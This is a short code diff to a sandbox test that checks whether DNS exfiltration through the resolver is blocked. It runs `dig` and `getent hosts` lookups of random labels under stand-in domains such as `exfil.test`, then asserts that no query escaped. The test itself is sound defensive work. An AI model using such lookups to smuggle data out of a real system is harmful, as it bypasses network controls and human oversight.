@@ -147,7 +147,7 @@ def test_dns_exfiltration_through_the_resolver(bottle: Bottle) -> None:
     label = f"exfil{uuid.uuid4().hex}"
     with Capture() as cap:
         code, out = bottle.sh(f"dig +time=2 +tries=1 {label}.other.test")
-        code2, out2 = bottle.sh(f"getent hosts {label}.example.com")
+        code2, out2 = bottle.sh(f"getent hosts {label}.exfil.test")
     assert code != 0 or "NOERROR" not in out, out
     assert code2 != 0, out2
     assert bottle.outside.dns_queries == []
